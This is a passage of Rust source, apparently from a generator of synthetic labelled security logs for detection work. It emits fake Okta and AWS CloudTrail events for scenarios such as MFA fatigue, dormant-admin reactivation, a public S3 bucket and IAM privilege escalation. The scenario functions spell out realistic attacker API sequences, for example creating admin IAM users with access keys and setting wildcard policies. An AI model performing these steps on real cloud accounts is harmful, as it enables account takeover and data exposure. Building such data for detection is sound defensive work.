//! The attacks: each instance is placed at a seeded time, its records are written with its label.

use std::collections::BTreeSet;

use crate::ScenarioKind;
use crate::aws::{self, Ct, Who};
use crate::background::{object_key, object_prefix, token_grant};
use crate::catalog::{self, EXES, SiteKind, site_by_host};
use crate::company::{
    AD_DOMAIN, APP_AWS, APP_O365, APP_OKTA_ADMIN, AwsUse, BucketKind, Company, DEV, PROD, UA_LINUX_CHROME, UA_OKTA_SDK,
    UA_PY_REQUESTS, User,
};
use crate::emit::Emitter;
use crate::geo::{self, CITIES, FAR_NETS, HOSTING_NETS, Net};
use crate::json::{J, obj};
use crate::okta::{Actor, Client, OktaEv, behaviors, dt_hash, t_app, t_app_user, t_group, t_user};
use crate::ops::{self, Proc, Sess, SignIn, role_who};
use crate::plan::{Lifecycle, Plans, local};
use crate::util::{
    DAY, HOUR, MIN, R, SEC, Ts, akia, b62, between, chance, fmt_ts, haversine_km, hex, lognorm, pick, stream, unit,
    uuid, weekday,
};
use crate::win;
use crate::zeek::Conn;

mod slow;

/// A labeled attack instance.
pub(crate) struct Instance {
    pub kind: ScenarioKind,
    pub name: String,
    pub techniques: &'static [&'static str],
    pub users: Vec<String>,
    pub hosts: Vec<String>,
    pub keys: Vec<String>,
    pub buckets: Vec<String>,
    pub ips: Vec<String>,
    /// Destination names (only the slow exfiltration has one).
    pub domains: Vec<String>,
    pub description: String,
}

impl ScenarioKind {
    pub(crate) fn techniques(&self) -> &'static [&'static str] {
        match self {
            ScenarioKind::ImpossibleTravel => &["T1078", "T1078.004"],
            ScenarioKind::MfaFatigue => &["T1621", "T1078", "T1098.005"],
            ScenarioKind::DormantAdmin => &["T1078", "T1078.004", "T1098", "T1136.003"],
            ScenarioKind::PublicBucket => &["T1530", "T1537"],
            ScenarioKind::RiskyIamPolicy => &["T1098", "T1098.001", "T1078.004"],
            ScenarioKind::ExposedAccessKey => &["T1078.004", "T1552.001", "T1087.004", "T1580", "T1619"],
            ScenarioKind::Ransomware => &["T1566.001", "T1059.001", "T1547.001", "T1490", "T1486", "T1070.001"],
            ScenarioKind::LateralMovement => {
                &["T1078.002", "T1550.002", "T1021.002", "T1569.002", "T1047", "T1087.002"]
            }
            ScenarioKind::InsiderDownload => &["T1530", "T1119"],
            ScenarioKind::Exfiltration => &["T1567.002", "T1048"],
            ScenarioKind::VendorCompromise => &["T1199", "T1078.004", "T1098", "T1528"],
            ScenarioKind::SlowExfiltration => &["T1030", "T1048"],
            ScenarioKind::DormantServiceWeekly => &["T1078.004", "T1619", "T1530"],
            ScenarioKind::VendorScopeCreep => &["T1199", "T1087.004", "T1069.003", "T1213"],
        }
    }

    /// The random streams of the scenarios that fit any period (the slow ones draw from streams
    /// named after them; see `slow`).
    fn stream_id(&self) -> u64 {
        100 + ScenarioKind::all().iter().position(|k| k == self).unwrap_or(0) as u64
    }
}

/// How many instances of a scenario a company of `employees` gets.
pub(crate) fn instances_for(kind: ScenarioKind, employees: usize) -> usize {
    let base = 1 + employees / 400;
    match kind {
        ScenarioKind::ExposedAccessKey => base.max(2),
        _ => base,
    }
}

/// A placed instance, before its records are written.
struct Placed {
    kind: ScenarioKind,
    n: usize,
    day: usize,
    victim: usize,
    aux: usize,
}

pub(crate) struct Scenarios<'a> {
    co: &'a Company,
    seed: u64,
    days: usize,
}

impl<'a> Scenarios<'a> {
    pub(crate) fn new(co: &'a Company, seed: u64, days: usize) -> Scenarios<'a> {
        Scenarios { co, seed, days }
    }

    fn alive(&self, plans: &Plans, u: usize, d: usize) -> bool {
        self.co.users[u].active()
            && !plans
                .lifecycle
                .iter()
                .any(|&(x, dd, k)| x == u && matches!(k, Lifecycle::Leaver | Lifecycle::Leave) && dd <= d)
    }

    fn pick_day(&self, rng: &R, weekday_only: bool) -> usize {
        let lo = if self.days >= 3 { self.days / 3 } else { 0 };
        let hi = self.days - 1;
        let mut d = between(rng, lo as i64, hi as i64) as usize;
        if weekday_only {
            for _ in 0..30 {
                if weekday(self.co.start_day + d as i64) < 5 {
                    break;
                }
                d = between(rng, lo as i64, hi as i64) as usize;
            }
            if weekday(self.co.start_day + d as i64) >= 5 {
                // A short period of weekend days only: take any day in range.
                d = (lo..=hi).find(|&x| weekday(self.co.start_day + x as i64) < 5).unwrap_or(d);
            }
        }
        d
    }

    /// A victim among active employees matching `filter`, preferring ones not yet used; their
    /// day is made plain (home city, working) when `pin`.
    fn pick_victim(
        &self,
        rng: &R,
        plans: &mut Plans,
        d: usize,
        used: &mut BTreeSet<usize>,
        pin: bool,
        filter: &dyn Fn(&User, usize) -> bool,
    ) -> Option<usize> {
        let co = self.co;
        let ok = |i: usize, plans: &Plans| self.alive(plans, i, d) && filter(&co.users[i], i);
        let mut cands: Vec<usize> = (0..co.employees)
            .filter(|&i| !used.contains(&i) && ok(i, plans) && (!pin || plans.days[i][d].plain(co.users[i].city)))
            .collect();
        if cands.is_empty() {
            cands = (0..co.employees).filter(|&i| !used.contains(&i) && ok(i, plans)).collect();
        }
        if cands.is_empty() {
            cands = (0..co.employees).filter(|&i| ok(i, plans)).collect();
        }
        let v = *cands.get(between(rng, 0, cands.len() as i64 - 1) as usize)?;
        used.insert(v);
        if pin && !plans.days[v][d].plain(co.users[v].city) {
            plans.pin_plain(self.seed, co, v, d);
        }
        plans.days[v][d].pinned = true;
        Some(v)
    }

    /// Chooses days and victims for the selected scenarios, adjusting plans so victims are around.
    /// Returns them with the people they use.
    fn place(&self, kinds: &[ScenarioKind], plans: &mut Plans) -> (Vec<Placed>, BTreeSet<usize>) {
        let co = self.co;
        let mut used = BTreeSet::new();
        let mut placed = Vec::new();
        for &kind in kinds {
            // Instances of one scenario rotate through vendors/admins from a seeded start.
            let rotation = (crate::util::mix(self.seed ^ kind.stream_id()) % 1009) as usize;
            for n in 0..instances_for(kind, co.employees) {
                let rng_owned = stream(self.seed, kind.stream_id(), n as u64);
                let rng = &rng_owned;
                let windows_laptop = |u: &User, _: usize| u.host.is_some_and(|h| co.hosts[h].windows);
                let (day, victim, aux) = match kind {
                    ScenarioKind::ImpossibleTravel | ScenarioKind::Exfiltration => {
                        let d = self.pick_day(rng, true);
                        let f: &dyn Fn(&User, usize) -> bool = if kind == ScenarioKind::Exfiltration {
                            &|u: &User, _| u.host.is_some() && !u.is_admin
                        } else {
                            &|_: &User, _| true
                        };
                        let Some(v) = self.pick_victim(rng, plans, d, &mut used, true, f) else { continue };
                        (d, v, 0)
                    }
                    ScenarioKind::MfaFatigue => {
                        let d = self.pick_day(rng, false);
                        let Some(v) = self.pick_victim(rng, plans, d, &mut used, false, &|_, _| true) else { continue };
                        (d, v, 0)
                    }
                    ScenarioKind::DormantAdmin => {
                        if co.dormant_admins.is_empty() {
                            continue;
                        }
                        let d = self.pick_day(rng, false);
                        let v = co.dormant_admins[n % co.dormant_admins.len()];
                        let admins = co.admins();
                        let aux = *pick(rng, &admins);
                        (d, v, aux)
                    }
                    ScenarioKind::PublicBucket => {
                        let d = self.pick_day(rng, true);
                        let want = if n % 2 == 0 { AwsUse::Developer } else { AwsUse::Admin };
                        let Some(v) = self.pick_victim(rng, plans, d, &mut used, true, &|u, _| u.aws == want) else {
                            continue;
                        };
                        (d, v, 0)
                    }
                    ScenarioKind::RiskyIamPolicy => {
                        let d = self.pick_day(rng, true);
                        let Some(v) = self.pick_victim(rng, plans, d, &mut used, true, &|u, _| u.iam_dev.is_some())
                        else {
                            continue;
                        };
                        (d, v, 0)
                    }
                    ScenarioKind::ExposedAccessKey => {
                        let d = self.pick_day(rng, false);
                        (d, 0, n)
                    }
                    ScenarioKind::Ransomware => {
                        let d = self.pick_day(rng, true);
                        let Some(v) = self
                            .pick_victim(rng, plans, d, &mut used, true, &|u, i| windows_laptop(u, i) && !u.is_admin)
                        else {
                            continue;
                        };
                        (d, v, 0)
                    }
                    ScenarioKind::LateralMovement => {
                        let d = self.pick_day(rng, false);
                        let Some(v) = self
                            .pick_victim(rng, plans, d, &mut used, false, &|u, i| windows_laptop(u, i) && !u.is_admin)
                        else {
                            continue;
                        };
                        let admins = co.admins();
                        let aux = admins[(rotation + n) % admins.len()];
                        (d, v, aux)
                    }
                    ScenarioKind::InsiderDownload => {
                        let d = self.pick_day(rng, false);
                        let Some(v) = self.pick_victim(rng, plans, d, &mut used, false, &|u, _| {
                            matches!(u.aws, AwsUse::Finance | AwsUse::Data)
                        }) else {
                            continue;
                        };
                        // No regular working session that night: the download is the only activity.
                        (d, v, 0)
                    }
                    ScenarioKind::VendorCompromise => {
                        let d = self.pick_day(rng, false);
                        let v = (rotation + n) % co.vendors.len();
                        (d, v, 0)
                    }
                    // Placed and written on their own (`slow`), after all of these.
                    ScenarioKind::SlowExfiltration
                    | ScenarioKind::DormantServiceWeekly
                    | ScenarioKind::VendorScopeCreep => continue,
                };
                placed.push(Placed { kind, n: n + 1, day, victim, aux });
            }
        }
        (placed, used)
    }

    /// Places and writes every selected scenario; returns the instances in label order. The slow
    /// scenarios come last: what the others do (their random streams, victims, days and the
    /// plans they adjust) is the same with or without them.
    pub(crate) fn run(&self, kinds: &[ScenarioKind], plans: &mut Plans, em: &mut Emitter) -> Vec<Instance> {
        let classic: Vec<ScenarioKind> = kinds.iter().copied().filter(|k| !k.is_slow()).collect();
        let (placed, mut used) = self.place(&classic, plans);
        let mut out = Vec::new();
        for p in placed {
            let rng_owned = stream(self.seed, p.kind.stream_id() + 1000, p.n as u64);
            let rng = &rng_owned;
            em.label = out.len() as u32;
            let inst = match p.kind {
                ScenarioKind::ImpossibleTravel => self.impossible_travel(rng, em, plans, &p),
                ScenarioKind::MfaFatigue => self.mfa_fatigue(rng, em, &p),
                ScenarioKind::DormantAdmin => self.dormant_admin(rng, em, &p),
                ScenarioKind::PublicBucket => self.public_bucket(rng, em, plans, &p),
                ScenarioKind::RiskyIamPolicy => self.risky_iam(rng, em, plans, &p),
                ScenarioKind::ExposedAccessKey => self.exposed_key(rng, em, &p),
                ScenarioKind::Ransomware => self.ransomware(rng, em, plans, &p),
                ScenarioKind::LateralMovement => self.lateral(rng, em, &p),
                ScenarioKind::InsiderDownload => self.insider(rng, em, &p),
                ScenarioKind::Exfiltration => self.exfil(rng, em, plans, &p),
                ScenarioKind::VendorCompromise => self.vendor(rng, em, &p),
                ScenarioKind::SlowExfiltration
                | ScenarioKind::DormantServiceWeekly
                | ScenarioKind::VendorScopeCreep => continue,
            };
            out.push(inst);
        }
        for &kind in kinds.iter().filter(|k| k.is_slow()) {
            for n in 0..instances_for(kind, self.co.employees) {
                em.label = out.len() as u32;
                let inst = self.slow(kind, n, plans, &mut used, em);
                out.push(inst);
            }
        }
        em.label = crate::emit::NO_LABEL;
        out
    }

    fn instance(&self, p: &Placed, description: String) -> Instance {
        Instance {
            kind: p.kind,
            name: format!("{}-{}", p.kind.name(), p.n),
            techniques: p.kind.techniques(),
            users: Vec::new(),
            hosts: Vec::new(),
            keys: Vec::new(),
            buckets: Vec::new(),
            ips: Vec::new(),
            domains: Vec::new(),
            description,
        }
    }

    fn dayn(&self, p: &Placed) -> i64 {
        self.co.start_day + p.day as i64
    }

    fn impossible_travel(&self, rng: &R, em: &mut Emitter, plans: &Plans, p: &Placed) -> Instance {
        let co = self.co;
        let u = &co.users[p.victim];
        let plan = &plans.days[p.victim][p.day];
        let home_login = plan.start().unwrap_or(local(self.dayn(p), 9.0, u.tz()));
        let home = &CITIES[u.city];
        let far: Vec<(usize, usize)> = FAR_NETS
            .iter()
            .copied()
            .filter(|&(c, _)| haversine_km(home.lat, home.lon, CITIES[c].lat, CITIES[c].lon) > 3000.0)
            .collect();
        let (city, isp) = *pick(rng, &far);
        let net = Net::draw(rng, city, isp);
        let gap = between(rng, 35, 100);
        let t = home_login + 8 * MIN + gap * MIN;
        let actor = Actor::user(u);
        let o = SignIn {
            new_geo: true,
            new_device: true,
            new_ip: true,
            velocity: true,
            risk_high: true,
            ..SignIn::default()
        };
        let sid = ops::okta_signin(rng, em, actor, &u.factor_id, UA_LINUX_CHROME, net, t, o);
        let mut tt = t + between(rng, 20, 90) * SEC;
        ops::okta_sso(rng, em, co, actor, APP_O365, UA_LINUX_CHROME, net, tt, &sid);
        for _ in 0..between(rng, 2, 6) {
            tt += between(rng, 2, 12) * MIN;
            let app = *pick(rng, &u.apps);
            ops::okta_sso(rng, em, co, actor, app, UA_LINUX_CHROME, net, tt, &sid);
        }
        let c = net.city();
        let km = haversine_km(home.lat, home.lon, c.lat, c.lon).round();
        let mut inst = self.instance(
            p,
            format!(
                "{} signed in from {}, {} ({}, AS{} {}) about {} minutes after signing in from {}; {} km apart",
                u.email,
                c.name,
                c.country,
                net.ip_s(),
                net.isp().asn,
                net.isp().isp,
                gap + 8,
                home.name,
                km
            ),
        );
        inst.users.push(u.email.clone());
        inst.ips.push(net.ip_s());
        inst
    }

    fn attacker_net(&self, rng: &R) -> Net {
        let (c, i) = if chance(rng, 0.5) { *pick(rng, &HOSTING_NETS) } else { *pick(rng, &FAR_NETS) };
        Net::draw(rng, c, i)
    }

    fn mfa_fatigue(&self, rng: &R, em: &mut Emitter, p: &Placed) -> Instance {
        let co = self.co;
        let u = &co.users[p.victim];
        let net = self.attacker_net(rng);
        let t0 = local(self.dayn(p), 19.0 + unit(rng) * 4.0, u.tz());
        let actor = Actor::user(u);
        let client = Client::browser(UA_LINUX_CHROME, net);
        let sid = crate::okta::session_id(rng);
        let mut e = OktaEv::new(t0, "user.authentication.verify", actor, client);
        e.session = Some(&sid);
        e.emit(rng, em);
        let enrollment = || {
            vec![
                obj! {"id": &u.factor_id, "type": "AuthenticatorEnrollment", "alternateId": "unknown", "displayName": "Okta Verify", "detailEntry": J::Null},
            ]
        };
        let pushes = between(rng, 10, 30);
        let mut t = t0;
        let mut denies = 0;
        for _ in 0..pushes {
            t += between(rng, 5, 18) * SEC;
            let mut e = OktaEv::new(t, "system.push.send_factor_verify_push", actor, client);
            e.session = Some(&sid);
            e.step = 1;
            e.targets = Some(enrollment());
            e.emit(rng, em);
            if chance(rng, 0.65) {
                t += between(rng, 3, 10) * SEC;
                let mut e = OktaEv::new(t, "user.mfa.okta_verify.deny_push", actor, client);
                e.session = Some(&sid);
                e.step = 1;
                e.result = "FAILURE";
                e.reason = Some("User rejected Okta push verify");
                e.targets = Some(enrollment());
                e.emit(rng, em);
                denies += 1;
            }
        }
        // The worn-down user approves the next one.
        t += between(rng, 10, 40) * SEC;
        let mut e = OktaEv::new(t, "system.push.send_factor_verify_push", actor, client);
        e.session = Some(&sid);
        e.step = 1;
        e.targets = Some(enrollment());
        e.emit(rng, em);
        t += between(rng, 4, 12) * SEC;
        let mut e = OktaEv::new(t, "user.authentication.auth_via_mfa", actor, client);
        e.session = Some(&sid);
        e.step = 1;
        e.targets = Some(enrollment());
        e.dbg("factor", "OKTA_VERIFY_PUSH");
        e.dbg("factorIntent", "AUTHENTICATION");
        e.emit(rng, em);
        t += between(rng, 300_000, 1_500_000);
        let mut e = OktaEv::new(t, "user.session.start", actor, client);
        e.session = Some(&sid);
        e.dbg("behaviors", J::Own(behaviors(true, true, true, false)));
        e.dbg("risk", "{reasons=Anomalous Device, New IP, level=HIGH}");
        e.dbg("dtHash", J::Own(dt_hash(rng)));
        e.emit(rng, em);
        let total = pushes + 1;
        let mut tt = t + between(rng, 10, 60) * SEC;
        ops::okta_sso(rng, em, co, actor, APP_O365, UA_LINUX_CHROME, net, tt, &sid);
        for _ in 0..between(rng, 1, 4) {
            tt += between(rng, 1, 8) * MIN;
            let app = *pick(rng, &u.apps);
            ops::okta_sso(rng, em, co, actor, app, UA_LINUX_CHROME, net, tt, &sid);
        }
        // Persistence: the attacker enrolls a device of their own.
        let mut e = OktaEv::new(tt + between(rng, 3, 15) * MIN, "user.mfa.factor.activate", actor, client);
        e.session = Some(&sid);
        e.targets = Some(vec![t_user(u)]);
        e.dbg("factor", "OKTA_VERIFY_PUSH");
        e.emit(rng, em);
        let mut inst = self.instance(
            p,
            format!(
                "{} received {} Okta Verify pushes ({} denied) in {} minutes from {} ({}, {}) and approved the last; the session was used for SSO and a new factor was enrolled",
                u.email,
                total,
                denies,
                ((t - t0) / MIN).max(1),
                net.ip_s(),
                net.city().name,
                net.isp().isp
            ),
        );
        inst.users.push(u.email.clone());
        inst.ips.push(net.ip_s());
        inst
    }

    fn dormant_admin(&self, rng: &R, em: &mut Emitter, p: &Placed) -> Instance {
        let co = self.co;
        let u = &co.users[p.victim];
        let by = &co.users[p.aux];
        let net = self.attacker_net(rng);
        let t0 = local(self.dayn(p), 1.0 + unit(rng) * 3.0, CITIES[geo::BOSTON].tz);
        // Reactivated with an admin's API token.
        let api = Client::browser(UA_OKTA_SDK, net);
        let mut e = OktaEv::new(t0, "user.lifecycle.unsuspend", Actor::user(by), api);
        e.targets = Some(vec![t_user(u)]);
        e.request_uri = format!("/api/v1/users/{}/lifecycle/unsuspend", u.okta_id);
        e.transaction = "JOB";
        e.emit(rng, em);
        let mut e = OktaEv::new(t0 + between(rng, 40, 180) * SEC, "user.account.update_password", Actor::user(by), api);
        e.targets = Some(vec![t_user(u)]);
        e.request_uri = format!("/api/v1/users/{}", u.okta_id);
        e.emit(rng, em);
        let t1 = t0 + between(rng, 5, 12) * MIN;
        let actor = Actor::user(u);
        let mut e = OktaEv::new(t1, "user.mfa.factor.activate", actor, Client::browser(UA_LINUX_CHROME, net));
        e.targets = Some(vec![t_user(u)]);
        e.dbg("factor", "OKTA_VERIFY_PUSH");
        e.emit(rng, em);
        let o = SignIn { new_geo: true, new_device: true, new_ip: true, ..SignIn::default() };
        let sid =
            ops::okta_signin(rng, em, actor, &u.factor_id, UA_LINUX_CHROME, net, t1 + between(rng, 30, 120) * SEC, o);
        let mut t = t1 + 3 * MIN;
        ops::okta_sso(rng, em, co, actor, APP_OKTA_ADMIN, UA_LINUX_CHROME, net, t, &sid);
        for g in ["Okta Super Admins", "AWS-Admins"] {
            t += between(rng, 30, 200) * SEC;
            let gi = co.group(g);
            let mut e = OktaEv::new(t, "group.user_membership.add", actor, Client::browser(UA_LINUX_CHROME, net));
            e.session = Some(&sid);
            e.targets = Some(vec![t_user(u), t_group(co, gi)]);
            e.request_uri = format!("/api/v1/groups/{}/users/{}", co.groups[gi].id, u.okta_id);
            e.emit(rng, em);
        }
        t += between(rng, 2, 6) * MIN;
        let mut keys = Vec::new();
        if let Some(rs) =
            ops::aws_federate(rng, em, co, u, UA_LINUX_CHROME, Some(&sid), PROD, "Okta-Admin", net, t, true)
        {
            let a = &co.accounts[PROD];
            let ipx = net.ip_s();
            let ua = aws::UA_CONSOLE;
            let mut tt = t + MIN;
            for name in ["ListUsers", "ListRoles"] {
                tt += between(rng, 10, 60) * SEC;
                Ct::new(tt, PROD, role_who(co, &rs, &u.email), ipx.clone(), ua, "iam.amazonaws.com", name).emit(
                    rng,
                    em,
                    &co.accounts,
                );
            }
            let new_user = format!("svc-{}", pick(rng, &["monitoring", "support", "healthcheck", "audit"]));
            tt += between(rng, 30, 120) * SEC;
            Ct::new(tt, PROD, role_who(co, &rs, &u.email), ipx.clone(), ua, "iam.amazonaws.com", "CreateUser")
                .req(obj! {"userName": new_user.clone()})
                .resp(obj! {"user": obj!{"path": "/", "userName": new_user.clone(), "userId": crate::util::aws_uid(rng, "AIDA"), "arn": format!("arn:aws:iam::{}:user/{}", a.id, new_user), "createDate": fmt_ts(tt, Ts::Secs)}})
                .emit(rng, em, &co.accounts);
            tt += between(rng, 10, 60) * SEC;
            Ct::new(tt, PROD, role_who(co, &rs, &u.email), ipx.clone(), ua, "iam.amazonaws.com", "AttachUserPolicy")
                .req(obj! {"userName": new_user.clone(), "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
                .emit(rng, em, &co.accounts);
            let key = akia(rng);
            tt += between(rng, 10, 60) * SEC;
            Ct::new(tt, PROD, role_who(co, &rs, &u.email), ipx.clone(), ua, "iam.amazonaws.com", "CreateAccessKey")
                .req(obj! {"userName": new_user.clone()})
                .resp(obj! {"accessKey": obj!{"userName": new_user.clone(), "accessKeyId": key.clone(), "status": "Active", "createDate": fmt_ts(tt, Ts::Secs)}})
                .emit(rng, em, &co.accounts);
            keys.push(key);
        }
        let days_dormant = (t0 - u.last_active) / DAY;
        let mut inst = self.instance(
            p,
            format!(
                "Suspended admin {} (inactive {} days) was unsuspended via {}'s API token from {} ({}), re-enrolled MFA, signed in, joined admin groups and created an IAM admin user with an access key in {}",
                u.email,
                days_dormant,
                by.email,
                net.ip_s(),
                net.isp().isp,
                co.accounts[PROD].name
            ),
        );
        inst.users.push(u.email.clone());
        inst.users.push(by.email.clone());
        inst.ips.push(net.ip_s());
        inst.keys = keys;
        inst
    }

    fn public_bucket(&self, rng: &R, em: &mut Emitter, plans: &Plans, p: &Placed) -> Instance {
        let co = self.co;
        let u = &co.users[p.victim];
        let plan = &plans.days[p.victim][p.day];
        let Some(w) = plan.windows.first() else { return self.instance(p, String::new()) };
        let (acct, role, kind) = if u.aws == AwsUse::Admin {
            (PROD, "Okta-Admin", BucketKind::Analytics)
        } else if p.n.is_multiple_of(3) {
            (DEV, "Okta-Developer", BucketKind::Scratch)
        } else {
            (DEV, "Okta-Developer", BucketKind::MlData)
        };
        let a = &co.accounts[acct];
        let t0 = w.from + between(rng, 60, (w.to - w.from).max(2 * HOUR) / MIN - 30) * MIN;
        let ipx = w.net.ip_s();
        // The person's ordinary federated session is not part of the attack.
        let label = std::mem::replace(&mut em.label, crate::emit::NO_LABEL);
        let rs = ops::aws_federate(rng, em, co, u, u.ua, None, acct, role, w.net, t0 - 3 * MIN, true);
        em.label = label;
        let mut inst = self.instance(p, String::new());
        let Some(rs) = rs else { return inst };
        let bk = a.bucket(kind).unwrap_or(0);
        let b = &a.buckets[bk];
        let host = format!("{}.s3.amazonaws.com", b.name);
        let ua = aws::UA_CONSOLE;
        let who = || role_who(co, &rs, &u.email);
        let mut t = t0;
        Ct::new(t, acct, who(), ipx.clone(), ua, "s3.amazonaws.com", "GetBucketPublicAccessBlock")
            .region(b.region)
            .req(obj! {"bucketName": &b.name, "Host": host.clone(), "publicAccessBlock": ""})
            .emit(rng, em, &co.accounts);
        t += between(rng, 10, 60) * SEC;
        Ct::new(t, acct, who(), ipx.clone(), ua, "s3.amazonaws.com", "DeleteBucketPublicAccessBlock")
            .region(b.region)
            .req(obj! {"bucketName": &b.name, "Host": host.clone(), "publicAccessBlock": ""})
            .emit(rng, em, &co.accounts);
        t += between(rng, 10, 90) * SEC;
        let owner = hex(rng, 64);
        let xsi = "http://www.w3.org/2001/XMLSchema-instance";
        Ct::new(t, acct, who(), ipx.clone(), ua, "s3.amazonaws.com", "PutBucketAcl")
            .region(b.region)
            .req(obj! {
                "bucketName": &b.name,
                "Host": host.clone(),
                "acl": "",
                "AccessControlPolicy": obj!{
                    "AccessControlList": obj!{"Grant": vec![
                        obj!{"Grantee": obj!{"xsi:type": "CanonicalUser", "ID": owner.clone(), "xmlns:xsi": xsi}, "Permission": "FULL_CONTROL"},
                        obj!{"Grantee": obj!{"xsi:type": "Group", "URI": "http://acs.amazonaws.com/groups/global/AllUsers", "xmlns:xsi": xsi}, "Permission": "READ"},
                    ]},
                    "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
                    "Owner": obj!{"ID": owner},
                },
            })
            .emit(rng, em, &co.accounts);
        t += between(rng, 30, 300) * SEC;
        Ct::new(t, acct, who(), ipx.clone(), ua, "s3.amazonaws.com", "PutBucketPolicy")
            .region(b.region)
            .req(obj! {
                "bucketName": &b.name,
                "Host": host.clone(),
                "policy": "",
                "bucketPolicy": obj!{
                    "Version": "2012-10-17",
                    "Statement": vec![obj!{
                        "Sid": "PublicRead",
                        "Effect": "Allow",
                        "Principal": "*",
                        "Action": "s3:GetObject",
                        "Resource": format!("arn:aws:s3:::{}/*", b.name),
                    }],
                },
            })
            .emit(rng, em, &co.accounts);
        // Strangers find it.
        let mut ips = vec![ipx.clone()];
        let n_ips = between(rng, 2, 6);
        let mut tt = t + between(rng, 40, 400) * MIN;
        for _ in 0..n_ips {
            let (c, i) = *pick(rng, &geo::ATTACKER_NETS);
            let n = Net::draw(rng, c, i);
            ips.push(n.ip_s());
            for _ in 0..between(rng, 3, 12) {
                tt += between(rng, 1, 120) * SEC;
                Ct::new(tt, acct, Who::Anonymous, n.ip_s(), "python-requests/2.31.0", "s3.amazonaws.com", "GetObject")
                    .region(b.region)
                    .s3_object(a, &b.name, object_key(rng, kind), lognorm(rng, 5_000_000.0, 1.0), 0)
                    .emit(rng, em, &co.accounts);
            }
            tt += between(rng, 5, 90) * MIN;
        }
        inst.description = format!(
            "{} removed the public access block on s3://{} ({}), granted AllUsers READ and set a bucket policy with Principal \"*\"; {} outside addresses then read objects anonymously",
            u.email, b.name, a.name, n_ips
        );
        inst.users.push(u.email.clone());
        inst.buckets.push(b.name.clone());
        inst.ips = ips;
        inst
    }

    fn risky_iam(&self, rng: &R, em: &mut Emitter, plans: &Plans, p: &Placed) -> Instance {
        let co = self.co;
        let u = &co.users[p.victim];
        let a = &co.accounts[DEV];
        let Some(iu) = u.iam_dev else { return self.instance(p, String::new()) };
        let user = &a.users[iu];
        let key = &user.keys[0].id;
        let Some(w) = plans.days[p.victim][p.day].windows.first() else { return self.instance(p, String::new()) };
        let ipx = w.net.ip_s();
        let mut t = w.from + between(rng, 60, 300) * MIN;
        let who = || Who::IamUser { user, key };
        let ua = aws::UA_CLI;
        let step = |rng: &R, t: &mut i64| *t += between(rng, 8, 90) * SEC;
        Ct::new(t, DEV, who(), ipx.clone(), ua, "sts.amazonaws.com", "GetCallerIdentity").emit(rng, em, &co.accounts);
        step(rng, &mut t);
        Ct::new(t, DEV, who(), ipx.clone(), ua, "iam.amazonaws.com", "ListAttachedUserPolicies")
            .req(obj! {"userName": &user.name})
            .emit(rng, em, &co.accounts);
        let policy_arn = format!("arn:aws:iam::{}:policy/DeveloperSelfService", a.id);
        step(rng, &mut t);
        Ct::new(t, DEV, who(), ipx.clone(), ua, "iam.amazonaws.com", "GetPolicyVersion")
            .req(obj! {"policyArn": policy_arn.clone(), "versionId": "v3"})
            .emit(rng, em, &co.accounts);
        step(rng, &mut t);
        Ct::new(t, DEV, who(), ipx.clone(), ua, "iam.amazonaws.com", "CreatePolicyVersion")
            .req(obj! {
                "policyArn": policy_arn.clone(),
                "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}",
                "setAsDefault": true,
            })
            .resp(obj! {"policyVersion": obj!{"versionId": "v4", "isDefaultVersion": true, "createDate": fmt_ts(t, Ts::Secs)}})
            .emit(rng, em, &co.accounts);
        step(rng, &mut t);
        Ct::new(t, DEV, who(), ipx.clone(), ua, "iam.amazonaws.com", "AttachUserPolicy")
            .req(obj! {"userName": &user.name, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
            .emit(rng, em, &co.accounts);
        step(rng, &mut t);
        Ct::new(t, DEV, who(), ipx.clone(), ua, "iam.amazonaws.com", "ListUsers").emit(rng, em, &co.accounts);
        let target = a.user("terraform").map(|i| &a.users[i]).unwrap_or(user);
        let new_key = akia(rng);
        step(rng, &mut t);
        Ct::new(t, DEV, who(), ipx.clone(), ua, "iam.amazonaws.com", "CreateAccessKey")
            .req(obj! {"userName": &target.name})
            .resp(obj! {"accessKey": obj!{"userName": &target.name, "accessKeyId": new_key.clone(), "status": "Active", "createDate": fmt_ts(t, Ts::Secs)}})
            .emit(rng, em, &co.accounts);
        let mut inst = self.instance(
            p,
            format!(
                "IAM user {} ({}) made a wildcard Action \"*\" Resource \"*\" version of DeveloperSelfService the default, attached AdministratorAccess to itself and created an access key for {} in {}",
                user.name, u.email, target.name, a.name
            ),
        );
        inst.users.push(u.email.clone());
        inst.users.push(user.name.clone());
        inst.keys.push(key.clone());
        inst.keys.push(new_key);
        inst.ips.push(ipx);
        inst
    }

    fn exposed_key(&self, rng: &R, em: &mut Emitter, p: &Placed) -> Instance {
        let co = self.co;
        let (c, i) = *pick(rng, &HOSTING_NETS);
        let net = Net::draw(rng, c, i);
        let ipx = net.ip_s();
        let mut t = self.dayn(p) * DAY + between(rng, HOUR, 4 * HOUR);
        let step = |rng: &R, t: &mut i64| *t += between(rng, 1, 25) * SEC;
        let mut inst = self.instance(p, String::new());
        // Instance 2 uses the dev account's root key; the others rotate through IAM user keys.
        if p.aux != 1 {
            // A long-lived IAM user key shows up from a VPS with new tooling.
            let (acct, name, kind, privileged, usual) = match p.aux.saturating_sub(1) % 3 {
                0 => (
                    PROD,
                    "legacy-reporting",
                    BucketKind::FinanceReports,
                    false,
                    "daily from the Boston office with aws-cli/1.18",
                ),
                1 => (DEV, "terraform", BucketKind::TfState, true, "from CI runners with Terraform"),
                _ => (PROD, "svc-backup", BucketKind::Backups, false, "nightly from the Boston office with Veeam"),
            };
            let a = &co.accounts[acct];
            let Some(ui) = a.user(name) else { return inst };
            let user = &a.users[ui];
            let key = &user.keys[0].id;
            let who = || Who::IamUser { user, key };
            Ct::new(t, acct, who(), ipx.clone(), aws::UA_KALI, "sts.amazonaws.com", "GetCallerIdentity").emit(
                rng,
                em,
                &co.accounts,
            );
            step(rng, &mut t);
            Ct::new(t, acct, who(), ipx.clone(), aws::UA_BOTO, "s3.amazonaws.com", "ListBuckets")
                .req(obj! {"Host": "s3.amazonaws.com"})
                .emit(rng, em, &co.accounts);
            for api in ["ListUsers", "ListRoles", "GetAccountAuthorizationDetails", "ListAccessKeys"] {
                step(rng, &mut t);
                let mut ct = Ct::new(t, acct, who(), ipx.clone(), aws::UA_BOTO, "iam.amazonaws.com", api);
                if !privileged {
